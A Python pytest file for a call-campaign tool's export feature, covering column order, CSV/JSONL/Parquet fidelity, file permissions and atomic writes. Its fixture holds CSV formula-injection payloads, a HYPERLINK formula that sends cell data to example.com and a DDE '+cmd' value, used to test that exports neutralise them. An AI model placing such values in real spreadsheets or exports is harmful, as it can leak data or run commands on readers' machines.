import csv
import io
import json
import stat
import subprocess
from collections.abc import Sequence
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import parquet  # pyright: ignore[reportMissingTypeStubs]

from campaign.errors import BadInput
from outdial.export import FORMATS, write
from store.intake.cells import unguard
from store.reports import results
from tests.outdial.command import PROGRAM, outdial
from tests.store.desk import Desk, listed

# fmt: off
COLUMNS = [
    "campaign", "recipient_id", "phone_number", "attempt", "provider", "provider_batch_id",
    "provider_call_id", "outcome", "ended_reason", "answered_by", "started_at", "ended_at",
    "duration_seconds", "cost_usd", "transcript", "recording_url", "analysis", "variables",
    "settled",
]
PEOPLE_COLUMNS = [
    "campaign", "recipient_id", "phone_number", "state", "reason", "attempts", "last_outcome",
    "next_attempt_at",
]
# fmt: on
EVIL = '=HYPERLINK("http://example.com?"&A1,"click")'


@pytest.fixture
def desk(ledger: Any) -> Desk:
    """A campaign with three calls, one of them by somebody who means harm."""
    made = Desk(ledger)
    batch = made.placed(people=3)
    first, second, third = made.calls(batch)
    evil = made.call(
        first.key,
        transcript=f"agent: Hello\nperson: hm\n{EVIL}",
        ended_reason="+cmd|' /C calc'!A0",
        cost_usd=Decimal("0.120000"),
    )
    rows = [
        listed(evil),
        listed(made.call(second.key, analysis='{"mood": ["fine"]}', transcript="agent: Zoë, 你好")),
        listed(made.call(third.key, recording_url="https://example.com/a,b")),
    ]
    made.page(batch, rows)
    return made


def exported(kind: str, rows: str = "calls") -> str:
    ran = outdial("export", "spring", "--format", kind, "--rows", rows)
    assert ran.code == 0, ran.err
    return ran.out


def as_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_calls_have_the_columns_of_the_contract_in_their_order(desk: Desk) -> None:
    header, *rows = as_csv(exported("csv"))

    assert header == COLUMNS
    assert [row[2] for row in rows] == ["+12005550100", "+12005550101", "+12005550102"]
    assert list(json.loads(exported("jsonl").splitlines()[0])) == COLUMNS
    outdial("export", "spring", "--output", "calls.parquet")
    assert parquet.read_schema("calls.parquet").names == COLUMNS  # pyright: ignore[reportUnknownMemberType]


def test_recipients_have_theirs(desk: Desk) -> None:
    header, *rows = as_csv(exported("csv", "recipients"))

    assert header == PEOPLE_COLUMNS
    assert [row[3] for row in rows] == ["reached"] * 3
    assert list(json.loads(exported("jsonl", "recipients").splitlines()[0])) == PEOPLE_COLUMNS


def test_no_cell_of_a_csv_can_act_as_a_formula_and_all_can_be_had_back(desk: Desk) -> None:
    header, first, *_ = as_csv(exported("csv"))
    row = dict(zip(header, first, strict=True))

    assert row["transcript"].splitlines()[-1] == f"'{EVIL}"
    assert row["ended_reason"].startswith("'+cmd")
    assert unguard(row["transcript"]).splitlines()[-1] == EVIL
    assert row["phone_number"] == "+12005550100"


def test_json_and_parquet_are_exact(desk: Desk) -> None:
    first, second, _ = map(json.loads, exported("jsonl").splitlines())
    outdial("export", "spring", "--output", "calls.parquet")
    typed: list[dict[str, Any]] = parquet.read_table("calls.parquet").to_pylist()  # pyright: ignore[reportUnknownMemberType]

    assert first["transcript"].splitlines()[-1] == EVIL
    assert first["cost_usd"] == 0.12
    assert second["analysis"] == {"mood": ["fine"]}
    assert typed[0]["transcript"] == first["transcript"]
    assert typed[0]["cost_usd"] == Decimal("0.12")
    assert typed[0]["started_at"] == datetime(2026, 7, 1, 12, tzinfo=UTC)
    assert typed[1]["analysis"] == '{"mood": ["fine"]}'
    assert first["started_at"] == "2026-07-01T12:00:00Z"


def test_the_kind_follows_the_name_of_the_file(desk: Desk, tmp_path: Path) -> None:
    for name, begins in (
        ("a.jsonl", b'{"'),
        ("a.parquet", b"PAR1"),
        ("a.csv", b"camp"),
        ("a", b"c"),
    ):
        ran = outdial("export", "spring", "--output", name)

        assert ran.err == f"3 calls of spring in {name}\n"
        assert (tmp_path / name).read_bytes().startswith(begins)


def test_only_its_owner_may_read_an_export(desk: Desk, tmp_path: Path) -> None:
    outdial("export", "spring", "--output", "calls.csv")

    assert stat.S_IMODE((tmp_path / "calls.csv").stat().st_mode) == 0o600


def test_a_reader_of_a_pipe_may_go_away(desk: Desk) -> None:
    with subprocess.Popen(
        [PROGRAM, "export", "spring"], stdout=subprocess.PIPE, stderr=subprocess.PIPE
    ) as process:
        assert process.stdout is not None
        process.stdout.close()
        assert process.stderr is not None
        said = process.stderr.read()

    assert process.returncode == 1
    assert said == b""


class Broken(Exception):
    pass


@pytest.mark.parametrize("kind", FORMATS)
def test_a_file_is_there_whole_or_not_at_all(kind: str, tmp_path: Path) -> None:
    path = tmp_path / "calls"
    path.write_text("what was there before")

    def rows() -> Any:
        yield ("a",)
        raise Broken

    with pytest.raises(Broken):
        write(path, kind, ["campaign"], rows())

    assert path.read_text() == "what was there before"
    assert [entry.name for entry in tmp_path.iterdir() if "calls" in entry.name] == ["calls"]


@pytest.mark.parametrize("kind", FORMATS)
def test_a_file_without_rows_has_its_columns(kind: str, tmp_path: Path) -> None:
    path = tmp_path / "calls"

    assert write(path, kind, results.CALL_COLUMNS, []) == 0

    if kind == "parquet":
        assert parquet.read_schema(path).names == COLUMNS  # pyright: ignore[reportUnknownMemberType]
    elif kind == "csv":
        assert path.read_text() == ",".join(COLUMNS) + "\n"
    else:
        assert path.read_text() == ""


def test_a_folder_that_is_not_there_is_told(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match="cannot be written"):
        write(tmp_path / "no" / "calls.csv", "csv", ["a"], [])


CELLS = st.text(st.characters(blacklist_categories=["Cs"]), max_size=30)


@given(rows=st.lists(st.tuples(CELLS, CELLS), max_size=6))
def test_what_is_exported_as_csv_is_read_back_as_it_was(
    rows: Sequence[tuple[str, str]], tmp_path_factory: pytest.TempPathFactory
) -> None:
    path = tmp_path_factory.mktemp("export") / "calls.csv"
    write(path, "csv", ["transcript", "reason"], rows)

    with path.open(encoding="utf-8", newline="") as file:
        _, *read = csv.reader(file)

    numbers = [[cell if cell[:1] != "'" else unguard(cell) for cell in row] for row in read]
    assert numbers == [list(row) for row in rows]
